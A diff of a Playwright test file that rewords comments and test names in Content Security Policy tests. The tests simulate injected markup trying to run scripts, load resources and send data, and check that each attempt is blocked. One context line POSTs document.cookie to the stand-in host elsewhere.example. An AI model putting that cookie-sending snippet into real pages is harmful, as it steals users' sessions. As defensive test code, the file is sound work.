@@ -1,7 +1,7 @@
 import type { Page } from '@playwright/test';
 import { expect, test } from './test.ts';
 
-// Chromium writes every refusal to the console: that is what these tests want.
+// Chromium logs every violation of the policy, which these tests provoke.
 test.use({ expectedConsoleErrors: /Content Security Policy|Content-Security-Policy|ERR_BLOCKED_BY_CSP/ });
 
 interface Attacked {
@@ -9,7 +9,7 @@ interface Attacked {
   refused?: string[];
 }
 
-/** What somebody does who got markup into a page: each way tries to run, to load or to send something. */
+/** Injected markup and scripts: each attack tries to run, load or send something. */
 const attacks = (elsewhere: string) => {
   const page = window as unknown as Attacked;
   page.attacked = [];
@@ -33,7 +33,7 @@ const attacks = (elsewhere: string) => {
   const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post' });
   document.body.append(form);
   form.submit();
-  // As a text: the browser's own evaluation would be let through.
+  // A string, since Playwright's own evaluation is exempt from the policy.
   setTimeout("window.attacked.push('eval')");
   new Worker(URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' }))).onerror = () => {};
   fetch(`${elsewhere}/take`, { method: 'POST', body: document.cookie, mode: 'no-cors' }).then(
@@ -44,10 +44,10 @@ const attacks = (elsewhere: string) => {
   new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`).onopen = succeeded('socket');
 };
 
-/** Everything that was tried on a page, and who was asked for something. */
+/** Attacks a page, and returns what succeeded, what was blocked and what was requested elsewhere. */
 async function attack(page: Page, path: string) {
   const asked: string[] = [];
-  // Another origin than the page's, and no https: images from there are an article's good right.
+  // Another origin without https, since articles may show https images.
   const elsewhere = 'http://elsewhere.example';
   await page.context().route(`${elsewhere}/**`, (route) => {
     asked.push(route.request().url());
@@ -71,7 +71,7 @@ for (const [kind, path] of [
   ['a page with a script of its own', '/upf-score'],
   ['the admin', '/admin/login'],
 ] as const) {
-  test(`${kind} runs, loads and sends nothing that somebody put into it`, async ({ page }) => {
+  test(`${kind} does not run, load or send anything that was injected`, async ({ page }) => {
     const { asked, attacked, refused } = await attack(page, path);
     expect(attacked).toEqual([]);
     expect(asked).toEqual([]);
@@ -92,7 +92,7 @@ for (const [kind, path] of [
   });
 }
 
-test('nobody can put a page of ours into a frame', async ({ page, baseURL }) => {
+test('no other site can show our pages in a frame', async ({ page, baseURL }) => {
   await page.route('http://elsewhere.example/', (route) =>
     route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/admin/login"></iframe>` }),
   );
